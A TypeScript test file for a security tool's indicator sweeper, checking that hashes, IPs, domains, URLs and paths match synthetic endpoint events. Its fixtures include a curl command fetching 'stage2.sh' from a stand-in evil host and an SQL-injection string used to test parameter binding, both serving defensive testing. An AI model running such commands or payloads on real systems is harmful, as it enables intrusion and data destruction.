// IOC sweeps over a real DuckDB event store: every indicator type, exact and range matching, aggregation per
// indicator (hosts, first/last seen, first host and event), expiry, idempotent indicator pushes, bound values.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { VigilError } from '@vigil/common';
import { checkEvent, type VigilEvent } from '@vigil/schema';
import { createDuckDbStore, type EventStore } from '@vigil/store';
import { IntelDb, type IndicatorInput } from './intel-db.js';
import { canonicalIndicatorValue, indicatorTypes, type IndicatorType } from './indicators.js';
import { createSweeper, type Sweeper } from './sweeper.js';
import { sweepQueries } from './sweep-sql.js';

const dir = mkdtempSync(join(tmpdir(), 'vigil-sweep-'));
let store: EventStore;
let intel: IntelDb;
let sweeper: Sweeper;
const sequences = new Map<string, number>();
const evil = 'b'.repeat(64);
const ids: Record<string, string> = {};

function event(host: string, seconds: number, category: string, action: string, fields: Record<string, unknown>, name?: string): VigilEvent {
  const sequence = (sequences.get(host) ?? 0) + 1;
  sequences.set(host, sequence);
  const id = randomUUID();
  if (name) ids[name] = id;
  const value = {
    '@timestamp': new Date(Date.UTC(2026, 1, 1) + seconds * 1000).toISOString(),
    'event.id': id,
    'event.sequence': sequence,
    'event.category': category,
    'event.action': action,
    'host.id': host,
    ...fields,
  };
  const check = checkEvent(value, 'test event');
  if (!check.category) throw new Error(JSON.stringify(check.problems));
  return value as unknown as VigilEvent;
}

const processStart = (executable: string, sha256: string) => ({
  'process.pid': 4000,
  'process.parent.pid': 1,
  'process.executable': executable,
  'process.name': executable.split('/').pop(),
  'process.command_line': executable,
  'process.hash.sha256': sha256,
});

before(async () => {
  store = createDuckDbStore({ dataDir: dir, ack: 'journal', threads: 1 });
  await store.open();
  await store.append('host-a', [
    event('host-a', 30, 'process', 'start', processStart('/tmp/.x/Dropper', evil)),
    event('host-a', 40, 'network', 'connect', { 'process.pid': 4000, 'source.ip': '10.0.0.5', 'source.port': 50000, 'destination.ip': '203.0.113.7', 'destination.port': 4444, 'network.transport': 'tcp' }, 'connect'),
    event('host-a', 50, 'dns', 'query', { 'process.pid': 4000, 'dns.question.name': 'c2.Bad.Example.net' }),
    event('host-a', 60, 'network', 'connect', { 'process.pid': 4001, 'source.ip': '10.0.0.5', 'source.port': 50001, 'destination.ip': '2001:db8::1:2', 'destination.port': 443, 'network.transport': 'tcp' }),
    event('host-a', 65, 'dns', 'query', { 'process.pid': 4002, 'dns.question.name': 'cdn.example.org', 'dns.resolved_ip': ['192.0.2.10', '198.51.100.99'] }, 'resolved'),
    event('host-a', 66, 'process', 'start', { ...processStart('/usr/bin/curl', 'd'.repeat(64)), 'process.command_line': 'curl -s http://Evil.example/stage2.sh -o /tmp/s' }, 'curl'),
    event('host-a', 67, 'file', 'create', { 'process.pid': 4003, 'file.path': '/tmp/Payload.BIN', 'file.name': 'Payload.BIN' }, 'file'),
  ]);
  await store.append('host-b', [
    event('host-b', 10, 'process', 'start', processStart('/usr/bin/dropper', evil), 'first'),
    event('host-b', 20, 'process', 'start', processStart('/usr/bin/ls', 'c'.repeat(64))),
    event('host-b', 70, 'dns', 'query', { 'process.pid': 4000, 'dns.question.name': 'notbad.example.net' }),
  ]);
  intel = new IntelDb(join(dir, 'intel.sqlite'));
  sweeper = createSweeper({ db: intel, store });
});

after(async () => {
  await sweeper.close();
  intel.close();
  await store.close();
  rmSync(dir, { recursive: true, force: true });
});

function input(type: IndicatorType, value: string, extra: Partial<IndicatorInput> = {}): IndicatorInput {
  return { type, value: canonicalIndicatorValue(type, value), source: 'unit', externalId: null, confidence: null, expiresAt: null, description: null, ...extra };
}

async function sweep(inputs: IndicatorInput[]) {
  const stored = intel.upsertIndicators(inputs, 'tester');
  const queued = sweeper.request(stored.map((s) => s.indicator), { kind: 'indicators', ref: null }, 'tester');
  assert.equal(queued.state, 'queued');
  await sweeper.idle();
  const done = intel.getSweep(queued.id)!;
  assert.equal(done.state, 'done', done.error ?? '');
  const byValue = new Map(intel.sweepResults(queued.id).map((r) => [`${r.type}:${r.value}`, r]));
  return { sweep: done, byValue };
}

test('a hash seen on two hosts lists both, with counts, first and last time, and the first host and event', async () => {
  const { byValue } = await sweep([input('sha256', evil.toUpperCase())]);
  const hit = byValue.get(`sha256:${evil}`)!;
  assert.equal(hit.count, 2);
  assert.deepEqual(hit.hosts, ['host-a', 'host-b']);
  assert.equal(hit.firstHostId, 'host-b');
  assert.equal(hit.firstEventId, ids.first);
  assert.equal(hit.firstSeen, '2026-02-01T00:00:10.000Z');
  assert.equal(hit.lastSeen, '2026-02-01T00:00:30.000Z');
});

test('every indicator type matches its fields: ip, cidr (IPv4 and IPv6), domain with subdomains, port, process name, path', async () => {
  const { byValue, sweep: done } = await sweep([
    input('ip', '203.0.113.7'),
    input('cidr', '203.0.113.0/24'),
    input('cidr', '2001:db8::/32'),
    input('cidr', '192.168.0.0/16'),
    input('domain', 'bad.example.net.'),
    input('port', '4444'),
    input('process_name', 'DROPPER'),
    input('path', '/usr/bin/dropper'),
    input('md5', 'd41d8cd98f00b204e9800998ecf8427e'),
    input('ip', '198.51.100.99'),
    input('cidr', '192.0.2.0/28'),
    input('url', 'http://evil.example/stage2.sh'),
    input('file_name', 'payload.bin'),
  ]);
  const count = (key: string) => byValue.get(key)?.count;
  assert.equal(count('ip:203.0.113.7'), 1);
  assert.equal(byValue.get('ip:203.0.113.7')!.firstEventId, ids.connect);
  assert.equal(count('cidr:203.0.113.0/24'), 1);
  assert.equal(count('cidr:2001:db8::/32'), 1);
  assert.equal(count('cidr:192.168.0.0/16'), 0);
  assert.equal(count('domain:bad.example.net'), 1, 'c2.bad.example.net matches, notbad.example.net does not');
  assert.equal(count('port:4444'), 1);
  assert.deepEqual(byValue.get('process_name:dropper')!.hosts, ['host-a', 'host-b'], 'process names match case-insensitively');
  assert.deepEqual(byValue.get('path:/usr/bin/dropper')!.hosts, ['host-b'], 'paths match exactly');
  assert.equal(count('md5:d41d8cd98f00b204e9800998ecf8427e'), 0);
  assert.equal(byValue.get('md5:d41d8cd98f00b204e9800998ecf8427e')!.firstEventId, null);
  assert.equal(byValue.get('ip:198.51.100.99')!.firstEventId, ids.resolved, 'addresses a name resolved to (dns.resolved_ip lists)');
  assert.equal(byValue.get('cidr:192.0.2.0/28')!.firstEventId, ids.resolved, 'ranges in dns.resolved_ip lists');
  assert.equal(byValue.get('url:http://evil.example/stage2.sh')!.firstEventId, ids.curl, 'URLs inside command lines');
  assert.equal(byValue.get('file_name:payload.bin')!.firstEventId, ids.file, 'file names case-insensitively');
  assert.equal(done.indicatorCount, 13);
  assert.equal(done.matchedCount, 11);
});

test('values are bound parameters: a path with quotes and SQL text matches literally and breaks nothing', async () => {
  const value = `/tmp/x'; DROP TABLE events; --"`;
  const queries = sweepQueries([{ id: 'i1', type: 'path', value }]);
  assert.equal(queries.length, 1);
  assert.ok(!queries[0]!.sql.includes('DROP TABLE'));
  assert.ok(queries[0]!.params.includes(value));
  const { byValue } = await sweep([input('path', value)]);
  assert.equal(byValue.get(`path:${value}`)!.count, 0);
  assert.equal((await store.countEvents({}, 'none'))[0]!.count, 10);
});

test('pushing the same indicators again updates them in place; expired indicators are stored but not swept', async () => {
  const first = intel.upsertIndicators([input('domain', 'again.example', { externalId: 'ext-1', confidence: 50 }), input('ip', '198.51.100.1')], 'tester');
  const second = intel.upsertIndicators([input('domain', 'again.example', { externalId: 'ext-1', confidence: 80 }), input('ip', '198.51.100.1')], 'tester');
  assert.deepEqual(first.map((s) => s.created), [true, true]);
  assert.deepEqual(second.map((s) => s.created), [false, false]);
  assert.deepEqual(second.map((s) => s.indicator.id), first.map((s) => s.indicator.id));
  assert.equal(second[0]!.indicator.confidence, 80);
  const expired = intel.upsertIndicators([input('sha256', evil, { source: 'old-feed', expiresAt: '2020-01-01T00:00:00.000Z' })], 'tester');
  const queued = sweeper.request(expired.map((s) => s.indicator), { kind: 'indicators', ref: null }, 'tester');
  await sweeper.idle();
  assert.equal(intel.getSweep(queued.id)!.indicatorCount, 0);
  assert.equal(intel.getSweep(queued.id)!.state, 'done');
});

test('an indicator moved by its external id onto the value of another of the same source is a located conflict', () => {
  intel.upsertIndicators([input('domain', 'one.example', { externalId: 'c-1' }), input('domain', 'two.example', { externalId: 'c-2' })], 'tester');
  assert.throws(
    () => intel.upsertIndicators([input('domain', 'two.example', { externalId: 'c-1' })], 'tester'),
    (error: unknown) => error instanceof VigilError && error.code === 'conflict' && error.location?.path === 'indicators[0]',
  );
});

test('values are checked and written canonically per type', () => {
  assert.equal(canonicalIndicatorValue('sha1', ' DA39A3EE5E6B4B0D3255BFEF95601890AFD80709 '), 'da39a3ee5e6b4b0d3255bfef95601890afd80709');
  assert.equal(canonicalIndicatorValue('ip', '2001:DB8::1'), '2001:db8::1');
  assert.equal(canonicalIndicatorValue('port', '0443'), '443');
  assert.equal(canonicalIndicatorValue('domain', 'Example.COM.'), 'example.com');
  for (const [type, value] of [['md5', 'xyz'], ['sha256', 'a'.repeat(63)], ['ip', '300.1.1.1'], ['cidr', '10.0.0.0/33'], ['cidr', '10.0.0.1'], ['domain', 'bad domain'], ['port', '70000'], ['process_name', 'a/b'], ['path', '']] as const) {
    assert.throws(() => canonicalIndicatorValue(type, value, 'indicators[0].value'), (e: unknown) => e instanceof VigilError && e.code === 'invalid_input' && e.location?.path === 'indicators[0].value', `${type} ${value}`);
  }
  assert.equal(indicatorTypes.length, 11);
});

test('a sweep interrupted by a stop resumes when the sweeper starts again', async () => {
  const stored = intel.upsertIndicators([input('sha256', evil, { source: 'resume' })], 'tester');
  const pending = intel.createSweep(stored.map((s) => s.indicator), { kind: 'indicators', ref: null }, 'tester');
  intel.markRunning(pending.id);
  const restarted = createSweeper({ db: intel, store });
  await restarted.idle();
  await restarted.close();
  const done = intel.getSweep(pending.id)!;
  assert.equal(done.state, 'done');
  assert.equal(intel.sweepResults(pending.id)[0]!.count, 2);
});
